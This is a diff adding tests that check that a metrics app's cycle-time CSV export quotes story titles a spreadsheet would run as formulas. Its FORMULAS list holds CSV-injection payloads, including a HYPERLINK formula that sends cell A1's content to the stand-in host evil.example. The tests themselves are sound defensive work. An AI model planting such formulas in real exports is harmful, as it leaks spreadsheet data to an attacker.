@@ -162,3 +162,34 @@ def test_lead_time_is_shown_beside_cycle_time(client, metrics_history):
     lead = html[html.index('id="lead-time"') :].split("</dl>")[0]
     # Created on the 2nd, done on the 3rd and the 9th: 2 and 8 days.
     assert "<dt>50 %</dt><dd>≤ 2 d</dd>" in lead and "<dt>85 %</dt><dd>≤ 8 d</dd>" in lead
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(client, flow, foreign):
+    from tests.flow.history import build_history
+
+    build_history(flow)
+    for title in FORMULAS:
+        story_with(flow.scrum_teams[0], ("backlog", "2026-03-02"), ("in_progress", "2026-03-05"),
+                   ("done", "2026-03-06"), title=title)  # fmt: skip
+    services.metric_snapshots_compute(flow_team=flow.flow_team, as_of=AS_OF)
+    client.force_login(flow.po1)
+    table = rows(client.get("/metrics/cycle-time.csv"))
+    titles = [row[1] for row in table[1:]]
+    assert sorted(titles) == sorted(
+        ["Same-day fix", "Invoice export", *("'" + t for t in FORMULAS)]
+    )
+    # Figures stay figures: dates, counts and days are written as they are.
+    fix = next(row for row in table if row[1] == '\'=HYPERLINK("https://evil.example/?"&A1,"Open")')
+    assert fix[5:8] == ["2026-03-05", "2026-03-06", "2"]
+
+
+def test_numbers_stay_numbers_and_only_formula_text_is_quoted():
+    from sem.spreadsheet import safe_row
+
+    assert safe_row([-3, -2.5, 0, None, "-3", "a-b", "=1", "story @ noon", "all"]) == [
+        -3, -2.5, 0, None, "'-3", "a-b", "'=1", "story @ noon", "all"
+    ]  # fmt: skip
